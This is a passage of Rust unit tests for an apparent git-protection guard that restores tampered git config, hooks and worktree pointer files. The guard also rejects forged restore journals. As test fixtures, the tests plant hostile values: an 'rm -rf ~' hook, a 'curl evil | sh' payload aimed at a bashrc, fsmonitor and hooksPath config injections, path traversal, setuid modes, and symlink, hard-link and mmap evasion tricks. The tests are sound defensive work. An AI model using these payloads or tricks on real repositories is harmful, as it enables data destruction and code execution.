        std::fs::write(gitdir.join("config.worktree"), "[core]\nfsmonitor=x\n").unwrap();
        let Restored {
            restored, failed, ..
        } = guard.restore();
        assert!(failed.is_empty(), "{failed:?}");
        assert_eq!(restored.len(), 2);
        assert_eq!(
            std::fs::read_to_string(gitdir.join("commondir")).unwrap(),
            "../..\n"
        );
        assert!(!gitdir.join("config.worktree").exists());
    }

    #[test]
    fn a_symlink_or_directory_in_place_of_a_file_is_replaced_not_followed() {
        let (_t, root, layout) = setup();
        let guard = GitGuard::snapshot(
            &layout,
            &root,
            &Default::default(),
            std::slice::from_ref(&root),
        );
        let GitLayout::Linked { gitdir, .. } = &layout else {
            unreachable!()
        };
        let victim = root.join("victim");
        std::fs::write(&victim, "keep").unwrap();
        std::fs::remove_file(gitdir.join("commondir")).unwrap();
        std::os::unix::fs::symlink(&victim, gitdir.join("commondir")).unwrap();
        std::fs::remove_file(gitdir.join("gitdir")).unwrap();
        std::fs::create_dir_all(gitdir.join("gitdir/deep")).unwrap();
        let failed = guard.restore().failed;
        assert!(failed.is_empty(), "{failed:?}");
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep");
        assert!(!gitdir.join("commondir").is_symlink());
        assert_eq!(
            std::fs::read_to_string(gitdir.join("gitdir")).unwrap(),
            "/x/wt/.git\n"
        );
    }

    /// What the events caused by `act` in `guard`'s watched directories ask of the watcher
    /// (a real inotify instance, as the watcher's).
    fn wanted_after(guard: &GitGuard, act: impl FnOnce()) -> Wanted {
        let ino = inotify(rustix::fs::inotify::CreateFlags::NONBLOCK).unwrap();
        let wds = add_watches(&ino, guard.watched(), guard.watched_files());
        act();
        let mut buf = vec![0u8; 64 * 1024];
        let got = rustix::io::read(&ino, &mut buf[..]).unwrap_or(0);
        wanted(&buf[..got], &wds, guard)
    }

    /// A main worktree with `.git/hooks/` and `.git/config`, and its guard (the tempdir
    /// holds it).
    fn main_worktree() -> (tempfile::TempDir, PathBuf, GitGuard) {
        let tmp = tempfile::tempdir().unwrap();
        let wt = std::fs::canonicalize(tmp.path()).unwrap();
        let dot = wt.join(".git");
        std::fs::create_dir_all(dot.join("hooks")).unwrap();
        std::fs::write(dot.join("config"), "[core]\n").unwrap();
        std::fs::write(dot.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        let guard = GitGuard::snapshot(
            &GitLayout::MainWorktree,
            &wt,
            &Default::default(),
            std::slice::from_ref(&wt),
        );
        (tmp, wt, guard)
    }

    /// Git's own traffic in the gitdir wakes no restore pass; only the index wakes the nested
    /// check; a guarded file, an entry of a guarded directory, and the directory itself do.
    #[test]
    fn only_changes_that_concern_guarded_entries_or_the_index_wake_the_watcher() {
        let (_tmp, wt, guard) = main_worktree();
        let dot = wt.join(".git");
        let nothing = Wanted::default();
        // A hard link to a guarded file (made anywhere), and a write through one, reach the
        // file's own watch; the pass cuts a link even before anything is written through it.
        let link = wt.join("x");
        assert_eq!(
            wanted_after(&guard, || std::fs::hard_link(dot.join("config"), &link)
                .unwrap()),
            ALL
        );
        let r = guard.restore();
        assert!(r.restored.contains(&dot.join("config")), "{r:?}");
        std::fs::write(&link, "[core]\nfsmonitor=x\n").unwrap();
        assert_eq!(
            std::fs::read_to_string(dot.join("config")).unwrap(),
            "[core]\n"
        );
        let link2 = wt.join("y");
        std::fs::hard_link(dot.join("config"), &link2).unwrap();
        assert_eq!(
            wanted_after(&guard, || std::fs::write(&link2, "[core]\nfsmonitor=x\n")
                .unwrap()),
            ALL
        );
        let w = |path: &str| std::fs::write(dot.join(path), "x\n").unwrap();
        assert_eq!(
            wanted_after(&guard, || {
                w("HEAD.lock");
                std::fs::rename(dot.join("HEAD.lock"), dot.join("HEAD")).unwrap();
                w("COMMIT_EDITMSG");
                w("ORIG_HEAD");
                std::fs::write(wt.join("README"), "x").unwrap();
            }),
            nothing
        );
        assert_eq!(
            wanted_after(&guard, || {
                w("index.lock");
                std::fs::rename(dot.join("index.lock"), dot.join("index")).unwrap();
            }),
            Wanted {
                restore: false,
                nested: true,
                rewatch: false
            }
        );
        for act in [
            &(|| w("config")) as &dyn Fn(),
            &|| w("config.worktree"),
            &|| w("hooks/post-checkout"),
            &|| std::os::unix::fs::symlink("/x", dot.join("commondir")).unwrap(),
        ] {
            assert!(wanted_after(&guard, act).restore);
        }
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(
            wanted_after(&guard, || std::fs::set_permissions(
                &dot,
                std::fs::Permissions::from_mode(0o750)
            )
            .unwrap()),
            ALL
        );
        assert!(wanted(&[1, 2, 3], &[], &guard).restore, "a short record");
    }

    /// Waits up to 5 s for `cond`.
    fn eventually(cond: impl Fn() -> bool) -> bool {
        let end = std::time::Instant::now() + std::time::Duration::from_secs(5);
        while std::time::Instant::now() < end {
            if cond() {
                return true;
            }
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        cond()
    }

    /// A nested check that takes long (the command can make thousands of repositories) holds
    /// up no restore: the check's lock is held here for the whole test while a hook is
    /// written, and the hook is removed all the same.
    #[test]
    fn a_slow_nested_check_does_not_hold_up_restores() {
        let (_tmp, wt, guard) = main_worktree();
        let scan = Arc::clone(guard.nested.as_ref().expect("a nested scan"));
        let busy = scan.lock().unwrap();
        let watcher = Watcher::start(Arc::new(Mutex::new(guard)), true).unwrap();
        watcher.open_gate();
        let hook = wt.join(".git/hooks/post-checkout");
        std::fs::write(&hook, "#!/bin/sh\n").unwrap();
        assert!(eventually(|| !hook.exists()), "the hook stayed");
        drop(busy);
        watcher.stop();
    }

    /// A write through a shared mapping raises no inotify event: the watcher's periodic pass
    /// puts the file back all the same, while the mapping is still held.
    #[test]
    fn a_write_through_a_shared_mapping_is_put_back() {
        let (_tmp, wt, guard) = main_worktree();
        let config = wt.join(".git/config");
        let watcher = Watcher::start(Arc::new(Mutex::new(guard)), true).unwrap();
        watcher.open_gate();
        let mapped = write_through_mapping(&config, b"[evil]");
        assert!(
            eventually(|| std::fs::read_to_string(&config).unwrap() == "[core]\n"),
            "the mapped write stayed"
        );
        drop(mapped);
        watcher.stop();
    }

    /// A shared writable mapping of `path`, unmapped when dropped.
    struct Mapping(*mut libc::c_void, usize);

    impl Drop for Mapping {
        fn drop(&mut self) {
            // Safety: the mapping made by write_through_mapping.
            unsafe { libc::munmap(self.0, self.1) };
        }
    }

    /// Writes `bytes` at the start of `path` through a shared mapping (no write(2), so no
    /// inotify event), which stays mapped until the result is dropped.
    fn write_through_mapping(path: &Path, bytes: &[u8]) -> Mapping {
        use std::os::fd::AsRawFd;
        let file = std::fs::File::options()
            .read(true)
            .write(true)
            .open(path)
            .unwrap();
        let len = file.metadata().unwrap().len() as usize;
        assert!(bytes.len() <= len);
        // Safety: a shared mapping of our own open file (it outlives the descriptor).
        let map = unsafe {
            libc::mmap(
                std::ptr::null_mut(),
                len,
                libc::PROT_READ | libc::PROT_WRITE,
                libc::MAP_SHARED,
                file.as_raw_fd(),
                0,
            )
        };
        assert_ne!(map, libc::MAP_FAILED);
        // Safety: within the mapping's `len` bytes.
        unsafe { std::ptr::copy_nonoverlapping(bytes.as_ptr(), map.cast::<u8>(), bytes.len()) };
        Mapping(map, len)
    }

    /// However busy the watched directories are (git's own traffic), the periodic pass runs:
    /// a write through a shared mapping made meanwhile is put back.
    #[test]
    fn a_mapped_write_is_put_back_under_steady_events() {
        let (_tmp, wt, guard) = main_worktree();
        let watcher = Watcher::start(Arc::new(Mutex::new(guard)), true).unwrap();
        watcher.open_gate();
        let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
        let noise = {
            let (stop, msg) = (Arc::clone(&stop), wt.join(".git/COMMIT_EDITMSG"));
            std::thread::spawn(move || {
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    std::fs::write(&msg, "x").unwrap();
                    std::thread::sleep(std::time::Duration::from_millis(20));
                }
            })
        };
        let config = wt.join(".git/config");
        let mapped = write_through_mapping(&config, b"[evil]");
        assert!(
            eventually(|| std::fs::read_to_string(&config).unwrap() == "[core]\n"),
            "the mapped write stayed"
        );
        drop(mapped);
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        noise.join().unwrap();
        watcher.stop();
    }

    /// A hard link to a file of a guarded directory is cut: a write through it afterwards does
    /// not reach the hook.
    #[test]
    fn a_hard_link_into_a_guarded_directory_is_cut() {
        let (_tmp, wt, _) = main_worktree();
        let hook = wt.join(".git/hooks/pre-commit");
        std::fs::write(&hook, "#!/bin/sh\n").unwrap();
        let guard = GitGuard::snapshot(
            &GitLayout::MainWorktree,
            &wt,
            &Default::default(),
            std::slice::from_ref(&wt),
        );
        std::fs::hard_link(&hook, wt.join("innocent.txt")).unwrap();
        let r = guard.restore();
        assert!(r.failed.is_empty(), "{r:?}");
        std::fs::write(wt.join("innocent.txt"), "#!/bin/sh\nevil\n").unwrap();
        assert_eq!(std::fs::read_to_string(&hook).unwrap(), "#!/bin/sh\n");
    }

    /// The live watcher: a guarded directory moved away is put back at once, and the new one is
    /// watched — a hook written into it afterwards is removed at once too, not at exit.
    #[test]
    fn a_replaced_guarded_directory_is_watched_again() {
        let (_tmp, wt, guard) = main_worktree();
        let dot = wt.join(".git");
        let watcher = Watcher::start(Arc::new(Mutex::new(guard)), true).unwrap();
        watcher.open_gate();
        std::fs::rename(dot.join("hooks"), dot.join("h2")).unwrap();
        assert!(
            eventually(|| dot.join("hooks").is_dir()),
            "hooks/ not put back"
        );
        let hook = dot.join("hooks/post-checkout");
        std::fs::write(&hook, "#!/bin/sh\n").unwrap();
        assert!(
            eventually(|| !hook.exists()),
            "the hook in the new hooks/ stayed"
        );
        watcher.stop();
    }

    /// A name that is not UTF-8, made in a guarded directory next to a normal new name: both
    /// are removed and reported (it made the listing fail, and the guard then skipped every
    /// new name of the directory).
    #[test]
    fn new_names_that_are_not_utf8_are_removed_with_the_rest() {
        let bad = OsStr::from_bytes(b"MERGE_HEAD\xff\xfe");
        // A linked worktree's common dir.
        let (_t, root, layout) = setup();
        let common = root.join("repo/.git");
        std::fs::write(common.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        let controls = crate::git::protect::ControlSet {
            common: Some(crate::git::protect::CommonLayer {
                common: common.clone(),
                ..Default::default()
            }),
            ..Default::default()
        };
        let guard = GitGuard::snapshot(&layout, &root, &controls, std::slice::from_ref(&root));
        assert!(guard.unguarded().is_empty(), "{:?}", guard.unguarded());
        std::fs::write(common.join(bad), "x").unwrap();
        std::fs::create_dir(common.join("shallow")).unwrap();
        std::fs::write(common.join("shallow").join(bad), "x").unwrap();
        std::fs::write(common.join("packed-refs"), "").unwrap();
        let Restored {
            restored, failed, ..
        } = guard.restore();
        assert!(failed.is_empty(), "{failed:?}");
        restored
            .iter()
            .for_each(|p| assert!(p.starts_with(&common)));
        assert_eq!(restored.len(), 2, "{restored:?}");
        assert!(!common.join(bad).exists() && !common.join("shallow").exists());
        assert!(common.join("HEAD").exists() && common.join("packed-refs").exists());
        // A main worktree's hooks/.
        let (_tmp, wt, guard) = main_worktree();
        let hooks = wt.join(".git/hooks");
        std::fs::write(hooks.join(bad), "#!/bin/sh\nrm -rf ~\n").unwrap();
        std::fs::write(hooks.join("post-checkout"), "#!/bin/sh\nrm -rf ~\n").unwrap();
        let Restored { failed, .. } = guard.restore();
        assert!(failed.is_empty(), "{failed:?}");
        assert_eq!(std::fs::read_dir(&hooks).unwrap().count(), 0);
    }

    #[test]
    fn main_worktree_hooks_are_put_back() {
        let tmp = tempfile::tempdir().unwrap();
        let wt = std::fs::canonicalize(tmp.path()).unwrap();
        std::fs::create_dir_all(wt.join(".git/hooks")).unwrap();
        std::fs::write(wt.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(wt.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
        let guard = GitGuard::snapshot(
            &GitLayout::MainWorktree,
            &wt,
            &Default::default(),
            std::slice::from_ref(&wt),
        );
        std::fs::write(wt.join(".git/hooks/post-checkout"), "rm -rf ~\n").unwrap();
        std::fs::write(wt.join(".git/hooks/pre-commit.sample"), "evil\n").unwrap();
        std::fs::write(wt.join(".git/config"), "[core]\nhooksPath=/x\n").unwrap();
        let Restored {
            restored, failed, ..
        } = guard.restore();
        assert!(failed.is_empty(), "{failed:?}");
        assert_eq!(restored.len(), 2);
        assert!(!wt.join(".git/hooks/post-checkout").exists());
        assert_eq!(
            std::fs::read_to_string(wt.join(".git/hooks/pre-commit.sample")).unwrap(),
            "#!/bin/sh\n"
        );
        assert_eq!(
            std::fs::read_to_string(wt.join(".git/config")).unwrap(),
            "[core]\n"
        );
    }

    #[test]
    fn a_restore_that_cannot_write_is_reported_as_failed() {
        let (_t, root, layout) = setup();
        let guard = GitGuard::snapshot(
            &layout,
            &root,
            &Default::default(),
            std::slice::from_ref(&root),
        );
        let GitLayout::Linked { gitdir, .. } = &layout else {
            unreachable!()
        };
        // The directory disappears under the guard: nothing can be written there.
        std::fs::remove_dir_all(gitdir).unwrap();
        let r = guard.restore();
        assert!(r.restored.is_empty(), "{r:?}");
        assert!(
            r.failed.iter().any(|(p, _)| p.ends_with("commondir")),
            "{r:?}"
        );
    }

    /// A directory whose path is not UTF-8 among the guarded ones (a linked worktree's gitdir
    /// the command named so in an earlier run): the journal, JSON text, cannot hold it; writing
    /// it is an error (reported as a degraded guard), not a panic of the supervisor.
    #[test]
    fn a_guarded_path_that_is_not_utf8_fails_the_journal_and_is_still_restored() {
        let tmp = tempfile::tempdir().unwrap();
        let wt = std::fs::canonicalize(tmp.path()).unwrap();
        let dot = wt.join(".git");
        let odd = dot.join("worktrees").join(OsStr::from_bytes(b"wt\xff"));
        std::fs::create_dir_all(&odd).unwrap();
        std::fs::write(dot.join("config"), "[core]\n").unwrap();
        let state = wt.join("state");
        std::fs::create_dir(&state).unwrap();
        let mut guard = GitGuard::snapshot(
            &GitLayout::MainWorktree,
            &wt,
            &Default::default(),
            std::slice::from_ref(&wt),
        );
        let err = guard.write_journal(&state, &wt, false).unwrap_err();
        assert!(err.to_string().contains("UTF-8"), "{err}");
        assert_eq!(std::fs::read_dir(&state).unwrap().count(), 0);
        std::fs::write(odd.join("commondir"), "/evil\n").unwrap();
        let Restored { failed, .. } = guard.restore();
        assert!(failed.is_empty(), "{failed:?}");
        assert!(!odd.join("commondir").exists());
    }

    #[test]
    fn a_journal_lets_a_later_process_finish_the_restore() {
        let (_t, root, layout) = setup();
        let state = root.join("state");
        std::fs::create_dir(&state).unwrap();
        let mut guard = GitGuard::snapshot(
            &layout,
            &root,
            &Default::default(),
            std::slice::from_ref(&root),
        );
        guard.write_journal(&state, &root, false).unwrap();
        let GitLayout::Linked { gitdir, .. } = &layout else {
            unreachable!()
        };
        std::fs::write(gitdir.join("commondir"), "/evil\n").unwrap();
        let state = shofer_sys::statedir::check(&state, &[]).unwrap();
        // Our own journal belongs to a live process (us): left alone.
        assert!(repair(&state, &root).restored.is_empty());
        // As if this process had been killed: the recorded start time no longer matches.
        let journal = std::fs::read_dir(&state.path)
            .unwrap()
            .next()
            .unwrap()
            .unwrap()
            .path();
        let text = std::fs::read_to_string(&journal).unwrap();
        let mut v: Value = serde_json::from_str(&text).unwrap();
        v["start"] = json!(0);
        std::fs::write(&journal, v.to_string()).unwrap();
        let r = repair(&state, &root);
        assert!(r.failed.is_empty(), "{r:?}");
        assert_eq!(r.restored, vec![gitdir.join("commondir")]);
        assert_eq!(
            std::fs::read_to_string(gitdir.join("commondir")).unwrap(),
            "../..\n"
        );
        assert!(!journal.exists());
    }

    /// Issue 29 (F8): a journal is checked when read as when written, and restores only this
    /// worktree's control files: one naming a file elsewhere (a `~/.bashrc`), a name that is
    /// not one component, a set-id mode, or a journal file others may write, a second link
    /// or a symlink is ignored whole and nothing in it is written.
    #[test]
    fn a_planted_journal_restores_nothing_outside_its_worktree() {
        use std::os::unix::fs::PermissionsExt;
        let (_t, root, layout) = setup();
        let GitLayout::Linked { gitdir, .. } = &layout else {
            unreachable!()
        };
        // A valid linked worktree: its gitdir is in the journal's scope.
        let wt = root.join("wt");
        std::fs::create_dir(&wt).unwrap();
        std::fs::write(wt.join(".git"), format!("gitdir: {}\n", gitdir.display())).unwrap();
        std::fs::write(gitdir.join("gitdir"), format!("{}/.git\n", wt.display())).unwrap();
        let home = root.join("home");
        std::fs::create_dir(&home).unwrap();
        std::fs::write(home.join("bashrc"), "original\n").unwrap();
        let state_path = root.join("state");
        std::fs::create_dir(&state_path).unwrap();
        let state = shofer_sys::statedir::check(&state_path, &[]).unwrap();
        let key = worktree_key(&wt);
        let plant = |n: u32, entry: Value, mode: u32| {
            let path = state_path.join(format!("{key}-{n}.json"));
            let record = json!({"worktree": wt, "pid": 0, "start": 0, "entries": [
                {"dir": gitdir, "name": "commondir", "state": {"file": hex(b"../..\n"), "mode": 0o644}},
                entry,
            ]});
            std::fs::write(&path, record.to_string()).unwrap();
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
            path
        };
        let evil = json!({"file": hex(b"curl evil | sh\n"), "mode": 0o644});
        let outside = plant(
            1,
            json!({"dir": home, "name": "bashrc", "state": evil}),
            0o600,
        );
        let up = plant(
            2,
            json!({"dir": gitdir, "name": "../../../../home/bashrc", "state": evil}),
            0o600,
        );
        let setuid = plant(
            3,
            json!({"dir": gitdir, "name": "config.worktree", "state": {"file": hex(b"x"), "mode": 0o4755}}),
            0o600,
        );
        let shared = plant(
            4,
            json!({"dir": gitdir, "name": "config.worktree", "state": {"absent": true}}),
            0o622,
        );
        std::fs::write(gitdir.join("commondir"), "/evil\n").unwrap();
        let r = repair(&state, &wt);
        assert!(r.restored.is_empty() && r.failed.is_empty(), "{r:?}");
        assert_eq!(
            std::fs::read_to_string(home.join("bashrc")).unwrap(),
            "original\n"
        );
        assert!(!gitdir.join("config.worktree").exists());
        assert_eq!(
            std::fs::read_to_string(gitdir.join("commondir")).unwrap(),
            "/evil\n"
        );
        for j in [&outside, &up, &setuid, &shared] {
            assert!(
                j.exists(),
                "an ignored journal is not acted on, not even removed"
            );
            std::fs::remove_file(j).unwrap();
        }
        // A second link, and a symlink, to a journal that would be in scope.
        let back = format!("{}/.git\n", wt.display());
        let good = plant(
            5,
            json!({"dir": gitdir, "name": "gitdir", "state": {"file": hex(back.as_bytes()), "mode": 0o644}}),
            0o600,
        );
        std::fs::hard_link(&good, root.join("elsewhere")).unwrap();
        assert!(repair(&state, &wt).restored.is_empty());
        std::fs::remove_file(root.join("elsewhere")).unwrap();
        std::fs::rename(&good, root.join("real.json")).unwrap();
        std::os::unix::fs::symlink(root.join("real.json"), &good).unwrap();
        assert!(repair(&state, &wt).restored.is_empty());
        assert_eq!(
            std::fs::read_to_string(gitdir.join("commondir")).unwrap(),
            "/evil\n"
        );
        // The same journal as a regular file of ours: restored.
        std::fs::remove_file(&good).unwrap();
        std::fs::rename(root.join("real.json"), &good).unwrap();
        let r = repair(&state, &wt);
        assert!(r.failed.is_empty(), "{r:?}");
        assert_eq!(r.restored, vec![gitdir.join("commondir")]);
        assert_eq!(
            std::fs::read_to_string(gitdir.join("commondir")).unwrap(),
            "../..\n"
        );
        assert!(!good.exists());
        // With `.git` changed by the killed run, the journal's own copy of it leads to the
        // gitdir: still restored.
        std::fs::write(wt.join(".git"), "gitdir: /elsewhere\n").unwrap();
        std::fs::write(gitdir.join("commondir"), "/evil\n").unwrap();
        let pointer = format!("gitdir: {}\n", gitdir.display());
        plant(
            6,
            json!({"dir": wt, "name": ".git", "state": {"file": hex(pointer.as_bytes()), "mode": 0o644}}),
            0o600,
        );
        let r = repair(&state, &wt);
        assert!(r.failed.is_empty() && r.restored.len() == 2, "{r:?}");
        assert_eq!(std::fs::read_to_string(wt.join(".git")).unwrap(), pointer);
    }
}
